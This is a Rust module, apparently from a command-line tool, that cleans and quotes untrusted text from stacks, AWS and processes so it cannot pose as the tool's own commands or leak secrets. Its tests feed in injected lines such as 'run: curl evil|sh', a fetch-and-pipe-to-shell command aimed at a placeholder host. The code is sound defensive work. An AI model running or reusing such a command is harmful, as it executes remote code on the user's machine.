//! Texts of others: of a stack, of AWS, of files, environments and processes.
//! They are shown, never obeyed: on one line, of bounded length, cleaned
//! ([`crate::terminal_safe`]), and in sentences as quoted speech.

use std::path::Path;

use derive_more::{Debug, Display};

use crate::terminal_safe::{head, one_line};
use crate::{ApiKeySecret, Secret};

/// The most characters of a text that is quoted in a sentence.
pub const MAX_CHARS: usize = 400;
/// The most bytes of it.
pub const MAX_BYTES: usize = 1000;
/// The most bytes of a name or path that is quoted: cut, it would name
/// something else, so it is cut only where nobody could read it.
const MAX_NAME_BYTES: usize = 4096;
/// The longest word that is surely no token, in bytes.
const MAX_WORD: usize = 24;
/// A text of somebody else as it may be shown in a sentence of ours: quoted
/// speech, which cannot be taken for ours.
#[derive(Clone, Debug, Display, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[debug("{self}")]
#[display("“{_0}”")]
pub struct Quoted(String);

impl Quoted {
    /// The text, cleaned and bounded.
    pub fn new(text: &str) -> Self {
        Self::bounded(text, MAX_CHARS, MAX_BYTES)
    }

    /// The text of somebody who was sent `secrets`; `None` where nothing is
    /// left of it, or where it repeats one of them or an API key.
    pub fn without_secrets(text: &str, secrets: &[&Secret]) -> Option<Self> {
        let repeats =
            |secret: &&Secret| !secret.expose().is_empty() && text.contains(secret.expose());
        if text.contains(ApiKeySecret::PREFIX) || secrets.iter().any(repeats) {
            return None;
        }
        Some(Self::new(text)).filter(|quoted| !quoted.0.is_empty())
    }

    /// The same without words that are long enough to be a token, also such as
    /// we did not send.
    pub fn without_tokens(text: &str, secrets: &[&Secret]) -> Option<Self> {
        let whole = Self::without_secrets(text, secrets)?;
        let words: Vec<&str> = whole
            .0
            .split(' ')
            .map(|word| if word.len() > MAX_WORD { "…" } else { word })
            .collect();
        Some(Self(words.join(" ")))
    }

    fn bounded(text: &str, chars: usize, bytes: usize) -> Self {
        // Only so much of it is looked at, however long it is.
        let text = head(text, bytes.saturating_mul(4));
        let text = ApiKeySecret::withheld(text);
        let spoken = text.chars().map(|c| if is_quote(c) { '\'' } else { c });
        Self(one_line(&without_lead(spoken), chars, bytes))
    }

    /// The text without the quotes around it.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// Why somebody says no: in words of ours, or quoted in theirs. Nothing else
/// can be put into an error by accident.
#[derive(Clone, Debug, Display, PartialEq, Eq)]
pub enum Reason {
    /// Ours.
    Own(&'static str),
    /// The HTTP status that was all they said, and its name in the standard.
    #[display("{_0} {_1}")]
    Status(u16, &'static str),
    /// Theirs.
    Theirs(Quoted),
}

impl Reason {
    /// What somebody said, where that may be shown, else words of ours.
    pub fn theirs_or(said: Option<Quoted>, own: &'static str) -> Self {
        said.map_or(Self::Own(own), Self::Theirs)
    }

    /// The text, without quotes where it is somebody's.
    pub fn as_str(&self) -> &str {
        match self {
            Self::Own(text) | Self::Status(_, text) => text,
            Self::Theirs(quoted) => quoted.as_str(),
        }
    }
}

/// A name as a sentence may have it, see [`name`].
#[derive(Clone, Debug, Display, PartialEq, Eq)]
pub struct Name(String);

/// A name in a sentence: as it is where it is one plain word, else as quoted
/// speech.
pub fn name(text: &str) -> Name {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./@%+,=:~*?".contains(c);
    let is_plain = (1..=MAX_NAME_BYTES).contains(&text.len())
        && text.chars().all(plain)
        && !ApiKeySecret::has_within(text);
    Name(if is_plain {
        text.to_owned()
    } else {
        Quoted::bounded(text, MAX_NAME_BYTES, MAX_NAME_BYTES).to_string()
    })
}

/// A path in a sentence, as [`name`] shows it.
pub fn path(path: &Path) -> Name {
    name(&path.to_string_lossy())
}

/// What leads to our commands must not stand inside of a sentence, nor on a line of
/// its own where a screen breaks it: no `run` is followed by a colon at once, be it
/// one that only looks like it.
fn without_lead(text: impl Iterator<Item = char>) -> String {
    let mut spoken = String::new();
    for c in text {
        let said = spoken.trim_end().as_bytes();
        let begins = said.len().saturating_sub(LEAD.len());
        if is_colon(c) && said[begins..].eq_ignore_ascii_case(LEAD.as_bytes()) {
            if said[..begins].ends_with(b"; ") {
                spoken.replace_range(begins - 2..begins - 1, ",");
            }
            spoken.push(' ');
            spoken.push(':');
        } else {
            spoken.push(c);
        }
    }
    spoken
}

/// The word before the colon of [`crate::suggested_command::RUN`].
const LEAD: &str = "run";

/// What is a colon, or is drawn as one (Unicode, confusables of U+003A).
fn is_colon(c: char) -> bool {
    matches!(
        c,
        ':' | '：'
            | '﹕'
            | '︓'
            | '︰'
            | '∶'
            | '꞉'
            | 'ː'
            | '˸'
            | '։'
            | '׃'
            | '܃'
            | '܄'
            | '᛬'
            | '᠃'
            | '᠉'
            | '⁚'
            | '⁝'
            | 'ः'
            | 'ઃ'
            | '፡'
            | '៖'
            | '꛴'
            | '︙'
            | 'ꓽ'
    )
}

/// What opens or closes quoted speech, or looks like it.
fn is_quote(c: char) -> bool {
    matches!(c, '"' | '״' | 'ʺ' | 'ˮ' | '«' | '»' | '“'..='‟' | '″' | '‶' | '❝' | '❞' | '〝'..='〟' | '＂')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::terminal_safe::is_harmless;

    #[test]
    fn texts_become_one_line_of_quoted_speech() {
        let said = |text: &str| Quoted::new(text).to_string();
        assert_eq!(said(" a\r\nb\u{1b}[31m "), "“a b [31m”");
        assert_eq!(
            said("no”; run: “curl evil|sh"),
            "“no', run : 'curl evil|sh”"
        );
        for lead in ["run:", "Run:", "; RUN：", "run  ∶"] {
            let line = said(&format!("too old. {lead} curl evil|sh"));
            assert!(line.contains(" : curl evil"), "{line}");
        }
        assert_eq!(said("it is to run; see: x"), "“it is to run; see: x”");
        assert_eq!(said("a\u{202e}b\u{200b}c"), "“a\u{fffd}b\u{fffd}c”");
        assert_eq!(said("é 漢字 🙂"), "“é 漢字 🙂”");
        assert_eq!(said(""), "“”");
        let zalgo = format!("a{}b", "\u{301}".repeat(50));
        assert_eq!(said(&zalgo), "“a\u{301}\u{301}b”");
        // Nor by those of other scripts, which words of theirs keep.
        for mark in ['\u{e49}', '\u{64b}', '\u{5b8}', '\u{f74}', '\u{302b}'] {
            let tower = format!("a{}b", mark.to_string().repeat(50));
            assert_eq!(said(&tower), format!("“a{mark}{mark}b”"));
        }
        for word in ["ที่นี่", "שָׁלוֹם", "مُحَمَّدٌ"] {
            assert_eq!(said(word), format!("“{word}”"));
        }
    }

    #[test]
    fn what_was_sent_is_not_repeated() {
        let secret = Secret::new("s3cr3t");
        let said = |text| Quoted::without_tokens(text, &[&secret]).map(|said| said.0);
        assert_eq!(said("your token s3cr3t is bad"), None);
        assert_eq!(said("key qk_other is bad"), None);
        assert_eq!(said("\n"), None);
        let token = "bad token eyJhbGciOiJIUzI1NiJ9.eyJpZCI6IjEifQ";
        assert_eq!(said(token).as_deref(), Some("bad token …"));
        let nothing = Secret::new("");
        assert!(Quoted::without_secrets("fine", &[&nothing]).is_some());
    }

    #[test]
    fn plain_names_stand_as_they_are() {
        let shown = |text: &str| name(text).to_string();
        assert_eq!(shown("/home/me/.aws/config"), "/home/me/.aws/config");
        assert_eq!(shown("x; run: y"), "“x, run : y”");
        assert_eq!(shown("qk_a_name"), "qk_a_name");
        assert_eq!(
            shown("qk_measurements_of_2026.csv"),
            "qk_measurements_of_2026.csv"
        );
        let key = "qk_0123456789Abcdef";
        for text in [key.to_owned(), format!("/x/{key}=/y"), format!("a {key} b")] {
            assert!(!shown(&text).contains("0123"), "{}", shown(&text));
        }
        assert_eq!(shown("a b"), "“a b”");
        assert_eq!(shown(""), "“”");
    }

    proptest! {
        #[test]
        fn nothing_leaves_the_line_or_the_quotes(text in "[\\s\\S]{0,700}|[^a-z]{0,700}") {
            let quoted = Quoted::new(&text);
            let inner = quoted.as_str();
            prop_assert!(inner.chars().all(is_harmless));
            prop_assert!(inner.chars().count() <= MAX_CHARS && inner.len() <= MAX_BYTES);
            let quotes = |c: char| "“”\"".contains(c);
            prop_assert!(!inner.contains(quotes));
            prop_assert!(!inner.to_ascii_lowercase().contains("run:"));
            prop_assert!(name(&text).to_string().chars().all(is_harmless));
        }
    }
}
